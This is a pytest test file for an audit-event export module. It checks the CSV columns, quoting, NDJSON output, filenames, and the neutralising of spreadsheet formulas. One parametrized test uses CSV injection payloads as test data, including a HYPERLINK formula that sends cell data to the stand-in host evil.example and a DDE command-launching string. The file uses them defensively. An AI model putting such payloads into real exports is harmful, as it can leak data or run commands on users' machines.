"""Unit tests of app.audit.export: column set, CSV quoting, formula neutralising, NDJSON, names."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from typing import Any

import pytest

from app.audit.export import (
    CSV_HEADER,
    csv_lines,
    export_filename,
    export_record,
    ndjson_lines,
    neutralise_formula,
)

BASE = "https://audit.example.com/"


def row(**overrides: Any) -> dict[str, Any]:
    values: dict[str, Any] = {
        "id": 7,
        "stage_at": datetime(2026, 11, 20, 10, 0, 0, 4000, tzinfo=UTC),
        "cluster": "prod",
        "verb": "patch",
        "resource": "networkpolicies",
        "subresource": None,
        "namespace": "payments",
        "name": "allow-web",
        "username": "alice@example.com",
        "impersonated_user": None,
        "user_groups": ["developers", "system:authenticated"],
        "source_ips": ["10.0.0.7", "::1"],
        "user_agent": "kubectl/v1.31.0",
        "response_code": 200,
        "authz_decision": "allow",
        "audit_id": "a1",
        "stage": "ResponseComplete",
    }
    values.update(overrides)
    return values


def parse(lines: list[str]) -> list[dict[str, str]]:
    text = "".join(lines)
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def test_documented_column_order() -> None:
    assert CSV_HEADER == (
        "time", "cluster", "verb", "resource", "subresource", "namespace", "name", "user",
        "impersonated_user", "groups", "source_ips", "user_agent", "code", "decision",
        "audit_id", "stage", "event_url",
    )  # fmt: skip


def test_csv_row_values() -> None:
    (record,) = parse(list(csv_lines([row()], base_url=BASE)))
    assert record == {
        "time": "2026-11-20T10:00:00.004000Z",
        "cluster": "prod",
        "verb": "patch",
        "resource": "networkpolicies",
        "subresource": "",
        "namespace": "payments",
        "name": "allow-web",
        "user": "alice@example.com",
        "impersonated_user": "",
        "groups": "developers;system:authenticated",
        "source_ips": "10.0.0.7;::1",
        "user_agent": "kubectl/v1.31.0",
        "code": "200",
        "decision": "allow",
        "audit_id": "a1",
        "stage": "ResponseComplete",
        "event_url": "https://audit.example.com/changes/7",
    }


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-1+1",
     "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1"],
)  # fmt: skip
def test_formula_cells_are_neutralised(value: str) -> None:
    lines = list(csv_lines([row(username=value, user_agent=value, name=value)], base_url=BASE))
    (record,) = parse(lines)
    for column in ("user", "user_agent", "name"):
        assert record[column] == "'" + value
        assert not record[column].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_formula_inside_a_list_cell_is_neutralised() -> None:
    (record,) = parse(list(csv_lines([row(user_groups=["=cmd", "ok"])], base_url=BASE)))
    assert record["groups"] == "'=cmd;ok"


def test_harmless_cells_are_untouched_and_quoting_round_trips() -> None:
    tricky = 'a,b "quoted"\nnext line – ünïcode'
    assert neutralise_formula("a=b") == "a=b"
    (record,) = parse(list(csv_lines([row(user_agent=tricky)], base_url=BASE)))
    assert record["user_agent"] == tricky


def test_ndjson_has_the_same_keys_and_raw_lists() -> None:
    lines = list(ndjson_lines([row(), row(id=8, username="=x")], base_url=BASE))
    assert len(lines) == 2
    assert all(line.endswith("\n") for line in lines)
    first = json.loads(lines[0])
    assert tuple(first) == CSV_HEADER
    assert first["groups"] == ["developers", "system:authenticated"]
    assert first["code"] == 200
    # NDJSON is data, not a spreadsheet: values stay exactly as stored.
    assert json.loads(lines[1])["user"] == "=x"
    assert export_record(row(), base_url=BASE)["event_url"].endswith("/changes/7")


def test_export_filename_states_filter_and_time() -> None:
    at = datetime(2026, 11, 20, 10, 0, tzinfo=UTC)
    name = export_filename(
        {"namespace": ["payments", "kube-system"], "include_reads": False, "q": "a/b c"},
        at=at,
        extension="csv",
    )
    assert name == (
        "audit-events_namespace-payments+kube-system_include_reads-false_q-a_b_c"
        "_20261120T100000Z.csv"
    ).replace("+", "_")
    long_name = export_filename({"q": "x" * 500}, at=at, extension="ndjson")
    assert len(long_name) < 160
    assert long_name.endswith("_20261120T100000Z.ndjson")
